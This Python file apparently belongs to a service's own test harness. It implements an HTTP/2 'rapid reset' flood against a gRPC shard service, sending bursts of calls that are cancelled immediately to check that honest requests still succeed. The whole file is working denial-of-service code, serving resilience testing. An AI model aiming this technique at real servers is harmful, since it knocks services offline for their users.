"""Calls that are reset as soon as they are opened, as fast as one connection takes them."""

from __future__ import annotations

import itertools
import socket
import struct
import sys
import time
from contextlib import suppress

from attacks.harness import Attack, Begin, Counts, Target, main
from attacks.http2 import RST_STREAM, call, connected, drain, frame, header_block
from headrace.v1 import shard_service_pb2 as pb

_METHODS = ("ReadBatches", "ListDatasets", "GetDataset")
_CANCEL = struct.pack(">I", 8)
_BURST = 2000


def _strike(target: Target, begin: Begin) -> Counts:
    request = pb.ReadBatchesRequest(
        dataset="small", global_batch_size=100, world_size=1, epoch_start=pb.EpochStart()
    ).SerializeToString()
    blocks = [
        header_block(f"/headrace.v1.ShardService/{name}", target.metadata) for name in _METHODS
    ]
    resets = connections = 0
    until = begin()
    while time.monotonic() < until:
        with suppress(OSError), connected(target.place) as connection:
            connections += 1
            resets += _reset(connection, blocks, request, until)
    return {"resets": resets, "connections": connections}


def _reset(connection: socket.socket, blocks: list[bytes], request: bytes, until: float) -> int:
    resets = 0
    streams = itertools.count(1, 2)
    while time.monotonic() < until and drain(connection):
        frames = bytearray()
        for block in itertools.islice(itertools.cycle(blocks), _BURST):
            stream = next(streams)
            frames += call(stream, block, request) + frame(RST_STREAM, 0, stream, _CANCEL)
        connection.sendall(frames)
        resets += _BURST
    return resets


# A method has one queue for the calls of all connections, and Python looks at them one by one:
# an honest call waits behind the 2,048 that one connection may have in it. It must not fail.
ATTACK = Attack("rapid reset", _strike, least_share=0.0)

if __name__ == "__main__":
    sys.exit(main(ATTACK))
